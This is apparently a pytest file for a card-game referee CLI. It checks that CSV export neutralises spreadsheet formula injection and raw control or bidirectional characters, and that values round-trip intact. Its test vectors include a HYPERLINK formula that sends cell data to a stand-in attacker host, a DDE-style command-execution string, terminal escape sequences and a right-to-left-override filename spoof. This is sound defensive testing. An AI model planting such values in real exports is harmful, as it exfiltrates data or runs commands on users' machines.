"""CSV export: no cell a spreadsheet would run as a formula, no control or bidi character raw,
and every such value reads back from the CSV as it was (issue 19 item 8)."""
from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from referee.cli import app

HOUSE = Path(__file__).resolve().parent / "rulesets" / "house"
DEAD = ["rule", "picked-wrong-end", "-a", "discard_claimed=no", "-s", "picker=West", "--no-input", "--ruleset", str(HOUSE)]
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

VECTORS = {
    "formula": "=1+1",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "escape": "\x1b]0;owned\x07Table",
    "clear screen": "\x1b[2J\x1b[H",
    "right-to-left override": "Ruth\u202egnp.exe",
    "isolate": "\u2067Ann\u2069",
    "leading quote": "'quoted",
}


def invoke(*args: str | Path) -> Any:
    r = CliRunner().invoke(app, [str(a) for a in args])
    assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    return r


@pytest.mark.parametrize("value", VECTORS.values(), ids=VECTORS.keys())
@pytest.mark.parametrize("where", ["--table", "--event", "--judge", "--player"])
def test_a_hostile_value_goes_out_inert_and_comes_back_whole(tmp_path: Path, value: str, where: str) -> None:
    db = tmp_path / "r.db"
    option = [where, f"West={value}" if where == "--player" else value]
    assert invoke(*DEAD, *option, "--db", db).exit_code == 0
    sheet = tmp_path / "out.csv"
    assert invoke("log", "export", "-o", sheet, "--with-origin", "--db", db).exit_code == 0
    text = sheet.read_text(encoding="utf-8")
    assert not RAW.search(text.replace("\n", "")), "a control or bidi character went out raw"
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    before = json.loads(invoke("log", "list", "--json", "--db", db).stdout)
    other = tmp_path / "other.db"
    assert invoke("log", "import", sheet, "--db", other).exit_code == 0
    assert json.loads(invoke("log", "list", "--json", "--db", other).stdout) == before
